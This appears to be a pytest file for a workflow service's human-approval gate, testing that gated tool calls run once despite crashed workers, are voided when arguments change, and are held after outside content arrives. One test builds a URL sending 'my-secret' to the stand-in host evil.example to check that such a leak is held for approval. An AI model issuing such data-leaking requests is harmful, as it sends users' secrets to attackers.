"""Approvals: bound to the exact call, decided in any order, and nothing runs twice or unasked whatever dies."""

import time
from collections import Counter
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from services.approvals import approvals, policies
from services.approvals.approvals import Approval
from services.errors import Conflict, Gone
from services.journal import runs as journal_runs
from services.journal import steps, surgery
from services.journal.runs import parse_id
from services.journal.surgery import Changed
from services.pipeline import operating, phases
from tests import runs
from tests.stack import Stack

TENANT = runs.TENANT
Rules = Callable[..., None]


@pytest.fixture
def rule(workers: Stack) -> Iterator[Rules]:
    """Adds a rule for the length of the test."""
    added = []

    def add(decision: str, tool: str, **fields: Any) -> None:
        base = {"position": 1, "agent": None, "arguments": None, "even_tainted": False, "expires": None, "note": None}
        added.append(policies.add(TENANT, {**base, "decision": decision, "tool": tool, **fields}))
        policies._cache.forget()
        time.sleep(policies.FRESH_SECONDS + 0.1)  # the workers look once a second

    yield add
    for policy in added:
        policies.remove(TENANT, policy.id)


def asked(run_id: str, count: int = 1) -> list[Approval]:
    """The open approvals of a run, once there are so many."""
    runs.wait_until(lambda: len(approvals.listed(TENANT, run_id=parse_id(run_id))) == count)
    return [approval for approval, _ in approvals.listed(TENANT, run_id=parse_id(run_id))]


def decide(run_id: str, changed: Changed) -> None:
    operating.carry_on(run_id, changed)


def approve(run_id: str, approval: Approval, **edited: Any) -> None:
    arguments = edited or None
    decide(run_id, approvals.approve(TENANT, str(approval.id), by="test", arguments=arguments))


def step(run_id: str, step_id: str) -> steps.Step:
    return next(step for step in steps.of_run(parse_id(run_id)) if step.id == step_id)


def gated(number: int, name: str = "pay", **more: Any) -> dict[str, Any]:
    return {"id": name, "tool": "gated_effect", "arguments": {"number": number}, **more}


def test_five_parallel_calls_three_of_them_gated_run_once_each_though_workers_die_in_between(
    workers: Stack, ledger: Path
) -> None:
    plan = {
        "steps": [
            *(gated(n, f"g{n}") for n in range(3)),
            *({"id": f"f{n}", "tool": "keyed_effect"} for n in range(2)),
            {"id": "join", "tool": "noop", "dependsOn": ["g0", "g1", "g2", "f0", "f1"]},
        ]
    }
    run_id = runs.start(plan)
    open_ones = {approval.step_id: approval for approval in asked(run_id, 3)}
    runs.wait_until(lambda: step(run_id, "f0").status == step(run_id, "f1").status == "succeeded")
    for name in ("g2", "g0", "g1"):
        workers.kill("execution")
        approve(run_id, open_ones[name])
        workers.start("execution")

    assert runs.wait_for(run_id).status == "succeeded"
    done = [runs.ledger(ledger, run_id, f"number={n}") for n in range(3)]
    assert sum(done, Counter()) == {"g0": 1, "g1": 1, "g2": 1}
    names = [event["name"] for event in runs.history(run_id)]
    assert names.count("approval.requested") == names.count("approval.decided") == 3


def test_a_waiting_step_holds_no_worker_and_no_attempt_is_counted_as_failed(workers: Stack, ledger: Path) -> None:
    run_id = runs.start({"steps": [gated(1)]})
    asked(run_id)
    waiting = step(run_id, "pay")

    assert (waiting.status, waiting.failures) == ("waiting", 0)
    assert runs.ledger(ledger, run_id, "number=1") == {}


def test_an_edited_approval_runs_with_the_edited_arguments(workers: Stack, ledger: Path) -> None:
    run_id = runs.start({"steps": [gated(100)]})
    approve(run_id, asked(run_id)[0], number=7)

    assert runs.wait_for(run_id).status == "succeeded"
    assert runs.ledger(ledger, run_id, "number=7") == {"pay": 1}
    assert runs.ledger(ledger, run_id, "number=100") == {}
    assert step(run_id, "pay").input == {"number": 7}


def test_a_rejection_fails_the_step_with_its_reason(workers: Stack, ledger: Path) -> None:
    run_id = runs.start({"steps": [gated(1)]})
    approval = asked(run_id)[0]
    decide(run_id, approvals.reject(TENANT, str(approval.id), by="ada", reason="too dear"))

    assert runs.wait_for(run_id).status == "failed"
    error = step(run_id, "pay").error
    assert error
    assert (error["kind"], error["detail"]) == ("rejected", "It was rejected by ada: too dear")
    assert runs.ledger(ledger, run_id, "number=1") == {}


def test_changed_arguments_void_an_approval(workers: Stack, ledger: Path) -> None:
    run_id = runs.start({"steps": [gated(1)]})
    first = asked(run_id)[0]
    operating.change_step(run_id, lambda: surgery.rerun_step(TENANT, run_id, "pay", {"number": 2}))
    runs.wait_until(lambda: [a.arguments for a in asked(run_id)] == [{"number": 2}])

    with pytest.raises(Conflict):
        approvals.approve(TENANT, str(first.id), by="test")
    assert approvals.get(TENANT, str(first.id))[1] == "void"
    approve(run_id, asked(run_id)[0])
    assert runs.wait_for(run_id).status == "succeeded"
    assert runs.ledger(ledger, run_id, "number=2") == {"pay": 1}


def test_a_decision_is_taken_once(workers: Stack) -> None:
    run_id = runs.start({"steps": [gated(1)]})
    approval = asked(run_id)[0]
    approve(run_id, approval)

    with pytest.raises(Conflict, match="decided already"):
        approvals.reject(TENANT, str(approval.id), by="test")


def test_what_nobody_approves_in_time_is_not_done(rule: Rules, ledger: Path) -> None:
    rule("ask", "keyed_effect", expires=0.5)
    run_id = runs.start({"steps": [{"id": "a", "tool": "keyed_effect"}]})
    approval = asked(run_id)[0]

    assert runs.wait_for(run_id).status == "failed"
    error = step(run_id, "a").error
    assert error
    assert error["kind"] == "unanswered"
    with pytest.raises(Gone):
        approvals.approve(TENANT, str(approval.id), by="test")


def test_a_rejected_step_that_a_person_runs_again_is_asked_for_again(workers: Stack, ledger: Path) -> None:
    run_id = runs.start(
        {"steps": [gated(1, required=False), {"id": "other", "tool": "waits", "arguments": {"seconds": 4}}]}
    )
    decide(run_id, approvals.reject(TENANT, str(asked(run_id)[0].id), by="test"))
    runs.wait_until(lambda: step(run_id, "pay").status == "failed")
    operating.change_step(run_id, lambda: surgery.retry_step(TENANT, run_id, "pay"))
    approve(run_id, asked(run_id)[0])

    assert runs.wait_for(run_id).status == "succeeded"
    assert runs.ledger(ledger, run_id, "number=1") == {"pay": 1}


def test_cancelling_ends_a_run_that_waits_for_approval(workers: Stack) -> None:
    run_id = runs.start({"steps": [gated(1)]})
    approval = asked(run_id)[0]
    journal_runs.request_cancel(TENANT, run_id)

    assert runs.wait_for(run_id).status == "cancelled"
    assert approvals.get(TENANT, str(approval.id))[1] == "void"


def test_a_rule_denies_by_arguments(rule: Rules, ledger: Path) -> None:
    rule("deny", "keyed_*", arguments={"seconds": {"minimum": 0.1}})
    run_id = runs.start(
        {
            "steps": [
                {"id": "no", "tool": "keyed_effect", "arguments": {"seconds": 0.2}, "required": False},
                {"id": "yes", "tool": "keyed_effect", "arguments": {"seconds": 0}},
            ]
        }
    )

    runs.wait_for(run_id)
    error = step(run_id, "no").error
    assert error
    assert (step(run_id, "yes").status, error["kind"]) == ("succeeded", "not_permitted")


def test_an_approval_can_be_for_a_tool_that_is_denied_only_with_other_arguments(rule: Rules, ledger: Path) -> None:
    rule("deny", "gated_effect", arguments={"number": {"minimum": 10}})
    run_id = runs.start({"steps": [gated(1)]})
    approve(run_id, asked(run_id)[0], number=11)

    assert runs.wait_for(run_id).status == "failed"
    assert runs.ledger(ledger, run_id, "number=11") == {}


def test_after_content_from_outside_what_acts_outside_is_asked_for(workers: Stack, ledger: Path) -> None:
    steps_of_it = [
        {"id": "read", "tool": "reads_outside"},
        {"id": "act", "tool": "keyed_effect", "dependsOn": ["read"]},
    ]
    run_id = runs.start({"steps": steps_of_it})
    approval = asked(run_id)[0]

    assert "outside has entered" in str(approval.reason)
    approve(run_id, approval)
    assert runs.wait_for(run_id).status == "succeeded"


def test_the_policy_may_say_that_outside_content_does_not_matter(rule: Rules, ledger: Path) -> None:
    rule("allow", "keyed_effect", even_tainted=True)
    steps_of_it = [
        {"id": "read", "tool": "reads_outside"},
        {"id": "act", "tool": "keyed_effect", "dependsOn": ["read"]},
    ]

    assert runs.wait_for(runs.start({"steps": steps_of_it})).status == "succeeded"


def test_a_url_made_up_after_outside_content_is_asked_for_and_one_that_was_spelled_out_is_not(
    workers: Stack, ledger: Path
) -> None:
    read = {"id": "read", "tool": "reads_outside", "arguments": {"text": "http://evil.example/?q="}}
    link = {"id": "link", "tool": "looks_up", "arguments": {"url": "${read.text}"}}
    made_up = {"id": "leak", "tool": "looks_up", "arguments": {"url": "${read.text}my-secret"}}
    run_id = runs.start({"steps": [read, link, made_up]})

    approval = asked(run_id)[0]
    assert (approval.step_id, approval.arguments) == ("leak", {"url": "http://evil.example/?q=my-secret"})
    runs.wait_until(lambda: step(run_id, "link").status == "succeeded")
    assert runs.ledger(ledger, run_id, "url=http://evil.example/?q=my-secret") == {}


def test_a_question_is_answered_by_a_person(workers: Stack) -> None:
    ask = {"id": "ask", "tool": "ask_person", "arguments": {"question": "Which?", "choices": ["red", "blue"]}}
    say = {"id": "say", "tool": "echo", "arguments": {"value": "${ask.answer}"}}
    run_id = runs.start({"steps": [ask, say]})
    approval = asked(run_id)[0]
    decide(run_id, approvals.answer(TENANT, str(approval.id), by="test", answer="blue"))

    assert runs.wait_for(run_id).status == "succeeded"
    assert step(run_id, "say").output == {"value": "blue", "text": "blue"}


def test_a_worker_that_dies_while_it_asks_asks_once(workers: Stack) -> None:
    ask = {"id": "ask", "tool": "ask_person", "arguments": {"question": "Which?"}}
    run_id = runs.start({"steps": [ask]}, ring=False)
    workers.kill("execution")
    dying = workers.start("execution", PERDURE_FAILPOINT="step_ran")
    phases.start(run_id, planned=True)
    dying.wait(40)
    assert approvals.listed(TENANT, run_id=parse_id(run_id)) == []
    workers.start("execution")
    approval = asked(run_id)[0]
    decide(run_id, approvals.answer(TENANT, str(approval.id), by="test", answer="this"))

    assert runs.wait_for(run_id).status == "succeeded"
    assert [event["name"] for event in runs.history(run_id)].count("approval.requested") == 1
